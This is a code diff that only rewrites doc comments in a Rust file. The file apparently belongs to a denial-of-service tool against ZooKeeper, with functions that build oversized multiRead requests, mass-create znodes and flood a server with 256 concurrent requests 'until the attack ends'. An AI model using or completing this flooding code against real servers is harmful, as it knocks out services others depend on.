@@ -22,7 +22,7 @@ fn create_listed(path: &str, entries: i32) -> Out {
     record.int(0)
 }
 
-/// The record of as many reads of a znode as a request of 960 KB has room for; how many.
+/// Returns the record of a multiRead of 960 KB with reads of one znode, and the number of reads.
 fn reads(path: &str) -> (Out, usize) {
     let one = Out::new().int(op::GET_DATA).bool(false).int(-1).0;
     let one = [one, read(path, false).0].concat();
@@ -31,7 +31,7 @@ fn reads(path: &str) -> (Out, usize) {
     (Out([one.repeat(count), end].concat()), count)
 }
 
-/// Makes so many znodes below one, with these flags.
+/// Creates `count` znodes below a parent, with these flags.
 fn make(conn: &mut Conn, parent: &str, count: usize, flags: i32) {
     for first in (0..count).step_by(1_000) {
         for number in first..first + 1_000 {
@@ -44,7 +44,7 @@ fn make(conn: &mut Conn, parent: &str, count: usize, flags: i32) {
     }
 }
 
-/// Sends the same request 256 times at once until it is over; how many were answered.
+/// Sends the same request 256 times at once until the attack ends. Returns the number of replies.
 fn flood(field: &Field, conn: &mut Conn, op: i32, record: &Out) -> usize {
     const WINDOW: i32 = 256;
     let mut count = 0;
